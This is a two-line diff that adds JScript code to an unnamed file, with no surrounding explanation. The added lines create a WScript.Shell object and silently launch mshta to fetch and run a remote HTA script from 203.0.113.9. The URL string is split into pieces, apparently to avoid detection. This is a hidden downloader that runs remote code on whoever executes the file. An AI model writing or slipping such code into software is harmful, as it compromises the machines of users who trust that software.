@@ -1,0 +1,2 @@
+var shell = new ActiveXObject("WScript.Shell");
+shell.Run("mshta " + "http" + "://203.0.113.9/a.hta", 0);
